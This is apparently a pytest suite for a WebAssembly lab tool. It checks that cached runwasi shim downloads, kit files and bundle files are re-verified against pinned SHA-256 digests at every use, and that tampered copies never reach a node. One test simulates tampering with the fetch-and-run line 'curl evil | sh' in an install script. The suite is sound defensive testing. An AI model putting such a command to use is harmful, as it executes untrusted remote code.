"""Nothing cached is trusted on its word: a shim extracted from a verified download, a kit file and
the bytes placed on a node are checked against their pins at every use, not once.

The download cache is the real one ($WASM_LAB_DOWNLOAD_DIR in a temporary folder) holding a real
runwasi-shaped tarball, read through the real Resolver; the kit is a real KitStore in a temporary
folder. The node is tests/fakes.FakeNode (a FAKE: its files are a dict), so the test can see that a
tampered file never reaches it; the real placement is covered by tests/kit/test_runtimes.py."""
import hashlib
import http.server
import threading

import pytest
import yaml

from lab import artifacts, kit, node_runtimes
from lab.artifacts import plan as artifact_plan
from lab.artifacts.local import LocalBundle, LocalFile
from lab.catalog import Runtime
from lab.errors import LabError
from lab.fetch import download_path
from lab.kit.store import ChecksumMismatch, KitStore
from lab.lock import LockFile
from lab.mirrors import Mirrors
from tests.e2e.standins import release_tarball
from tests.fakes import FakeNode

URL = "https://github.com/containerd/runwasi/releases/download/v0.6.1/containerd-shim-wasmtime-{arch}-linux-musl.tar.gz"
MEMBER = "containerd-shim-wasmtime-v1"
SHIM = b"\x7fELF the real shim"
EVIL = b"#!/bin/sh\n# not the shim\n"


def sha(data: bytes) -> str:
    return hashlib.sha256(data).hexdigest()


def tarball(content: bytes) -> bytes:
    return release_tarball(MEMBER, content)


@pytest.fixture
def cached_release(tmp_path, monkeypatch):
    """A verified runwasi download already in the shared download cache, and a catalog pinning it
    (online only: nothing may fall back to the kit and hide a refusal)."""
    monkeypatch.setenv("WASM_LAB_DOWNLOAD_DIR", str(tmp_path / "downloads"))
    archive = tarball(SHIM)
    url = URL.format(arch="x86_64")
    path = download_path(url, sha(archive))
    path.parent.mkdir(parents=True)
    path.write_bytes(archive)
    table = {"artifacts": {"shim-wasmtime": [
        {"origin": "release", "version": "v0.6.1", "url": URL, "member": MEMBER,
         "sha256": {"x86_64": sha(archive), "aarch64": ""}}]},
        "kind-node-images": {}, "oldest-kind": "v0.32.0", "registry-hosts": {}, "bundles": {}}
    monkeypatch.setattr(artifacts, "catalog", lambda: table)
    return {"archive": path, "lock": tmp_path / "lab.lock", "binary": path.parent / MEMBER}


def resolve(lock_path):
    resolver = artifacts.Resolver("false", Mirrors(), LockFile.load(lock_path), "x86_64")
    local = resolver.get("shim-wasmtime")
    resolver.lock.save()
    return local


def test_the_extracted_shims_digest_is_locked(cached_release):
    local = resolve(cached_release["lock"])
    entry = yaml.safe_load(cached_release["lock"].read_text())["artifacts"]["shim-wasmtime@x86_64"]
    assert entry["member"] == MEMBER and entry["member_sha256"] == sha(SHIM)
    assert local.path == cached_release["binary"] and local.sha256 == sha(SHIM)


@pytest.mark.parametrize("locked", [True, False], ids=["with lab.lock", "without lab.lock"])
def test_a_tampered_cached_shim_is_extracted_again_from_the_verified_archive(cached_release, capsys, locked):
    resolve(cached_release["lock"])
    if not locked:
        cached_release["lock"].unlink()
    cached_release["binary"].write_bytes(EVIL)  # someone with write access to the shared cache

    local = resolve(cached_release["lock"])
    assert local.path.read_bytes() == SHIM and local.sha256 == sha(SHIM)
    lines = [line for line in capsys.readouterr().err.splitlines() if str(cached_release["binary"]) in line]
    assert lines == [f"{cached_release['binary']}: sha256 {sha(EVIL)}, but {MEMBER} of the verified "
                     f"{cached_release['archive'].name} has {sha(SHIM)}; extracting it again"]


def test_a_lock_pinning_another_shim_than_the_archive_holds_is_refused(cached_release):
    """lab.lock is the trust root: the archive's member must be what it pins, or nothing is used."""
    resolve(cached_release["lock"])
    lock = LockFile.load(cached_release["lock"])
    lock.entries["shim-wasmtime@x86_64"]["member_sha256"] = sha(EVIL)
    lock.changed = True
    lock.save()
    with pytest.raises(LabError) as refused:
        resolve(cached_release["lock"])
    assert f"has sha256 {sha(SHIM)}, but lab.lock pins {sha(EVIL)}" in str(refused.value)
    assert "\n" not in str(refused.value)


@pytest.fixture
def release_stand_in(cached_release):
    """A server on 127.0.0.1 laid out like GitHub's release downloads, serving the genuine archive;
    the lab reaches it through its own mirror setting, as a user behind a mirror does."""
    genuine = cached_release["archive"].read_bytes()
    path = "/" + URL.format(arch="x86_64").removeprefix("https://github.com/")

    class Releases(http.server.BaseHTTPRequestHandler):
        def do_GET(self):
            body = genuine if self.path == path else b""
            self.send_response(200 if body else 404)
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, *args):
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Releases)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_address[1]}"
    server.shutdown()
    server.server_close()


def test_a_tampered_cached_download_is_fetched_again_not_used(cached_release, release_stand_in, capsys):
    genuine = cached_release["archive"].read_bytes()
    cached_release["archive"].write_bytes(tarball(EVIL))
    resolver = artifacts.Resolver("false", Mirrors(downloads=(("https://github.com", release_stand_in),)),
                                  LockFile.load(cached_release["lock"]), "x86_64")
    local = resolver.get("shim-wasmtime")
    assert f"{cached_release['archive']}: sha256 {sha(tarball(EVIL))}, pinned" in capsys.readouterr().err
    assert cached_release["archive"].read_bytes() == genuine
    assert local.sha256 == sha(SHIM) and local.path.read_bytes() == SHIM


WASMTIME = Runtime(name="wasmtime", handler="wasmtime", runtime_type="io.containerd.wasmtime.v1",
                   files=({"source": "shim-wasmtime", "dest": "/usr/local/bin/containerd-shim-wasmtime-v1"},))


def test_a_shim_changed_after_it_was_verified_never_reaches_the_node(tmp_path):
    path = tmp_path / MEMBER
    path.write_bytes(SHIM)
    local = LocalFile(path, sha(SHIM))
    path.write_bytes(EVIL)  # between resolution and placement
    node = FakeNode()
    with pytest.raises(LabError, match=f"sha256 {sha(EVIL)}, expected {sha(SHIM)}; not used"):
        node_runtimes.place_files(node, [node_runtimes.Wanted(WASMTIME)], {"shim-wasmtime": local})
    assert "/usr/local/bin/containerd-shim-wasmtime-v1" not in node.files


def test_a_bundle_file_changed_after_it_was_verified_never_reaches_the_node(tmp_path):
    (tmp_path / "install.sh").write_text("dpkg -i *.deb\n")
    bundle = LocalBundle(tmp_path, {"install.sh": sha(b"dpkg -i *.deb\n")})
    (tmp_path / "install.sh").write_text("curl evil | sh\n")
    node = FakeNode()
    with pytest.raises(LabError, match="install.sh: sha256 .* not used"):
        node_runtimes.place_bundles(node, [{"source": "libs", "dest": "/opt/wasm-lab/libs", "install": "install.sh"}],
                                    {"libs": bundle})
    assert not [p for p in node.files if p.startswith("/opt/wasm-lab")] and node.installs == []


def test_the_docker_check_engine_gets_only_verified_shims(tmp_path):
    from lab import docker_check

    path = tmp_path / MEMBER
    path.write_bytes(EVIL)
    with pytest.raises(LabError, match="not used"):
        docker_check._shims_archive([WASMTIME], {"shim-wasmtime": LocalFile(path, sha(SHIM))})


def test_a_tampered_kit_file_is_refused_at_use(tmp_path):
    store = KitStore(tmp_path / "kit")
    output = tmp_path / "kit" / "artifacts" / "shims" / "0"
    (output / "bin").mkdir(parents=True)
    (output / "bin" / MEMBER).write_bytes(SHIM)
    current_key = next(item.key for item in kit.plan(["shims"]) if item.recipe.name == "shims")
    store.record({"name": "shims", "key": current_key, "path": str(output), "files": {f"bin/{MEMBER}": sha(SHIM)}})
    assert kit.artifact("shims", store)["files"] == {f"bin/{MEMBER}": sha(SHIM)}
    (output / "bin" / MEMBER).write_bytes(EVIL)
    with pytest.raises(ChecksumMismatch, match=f"has sha256 {sha(EVIL)}, manifest says {sha(SHIM)}"):
        kit.artifact("shims", store)


def test_the_plan_calls_a_download_cached_only_when_it_still_verifies(cached_release):
    def note():
        rows: list[dict] = []
        artifact_plan.add_rows(artifacts.Resolver("false", Mirrors(), LockFile.load(cached_release["lock"]), "x86_64"),
                               "shim-wasmtime", rows)
        return rows[0]["note"]

    assert note() == "downloaded already"
    cached_release["archive"].write_bytes(tarball(EVIL))
    assert note() == ""
